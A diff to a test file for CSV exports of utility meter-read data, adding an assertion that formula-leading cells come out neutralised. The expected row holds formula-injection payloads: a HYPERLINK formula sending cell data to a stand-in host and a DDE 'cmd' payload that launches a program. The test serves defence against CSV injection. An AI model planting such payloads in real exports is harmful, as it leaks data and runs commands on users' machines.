@@ -75,6 +75,10 @@ describe('formula-leading cells in the files the office writes', () => {
     // The office's numbers are untouched: 130 then 135 … 145 (average 10 HCF ± 50 %).
     expect([hostile.Sequence, hostile.Dials, hostile.Multiplier, hostile.Prior_Reading, hostile.Expected_Low_Reading, hostile.Expected_High_Reading]).toEqual(['6', '4', '1', '130', '135', '145']);
     expect(liveCells(parse(exported.csv) as string[][])).toEqual([]);
+    // The row exactly as docs/formats/reads.md shows it.
+    expect(exported.csv.split('\r\n')).toContain(
+      `R2,6,${accountNumber},"'=HYPERLINK(""http://x/?""&A1,""Pay here""), @SUM(1+1)","'+cmd|' /C calc'!A0, Valle Verde",M-6,5/8,4,HCF,1,2026-10-09,130,135,145`,
+    );
   });
 
   it('the print vendor\'s CSV quotes them, and its amounts stay numbers', async () => {
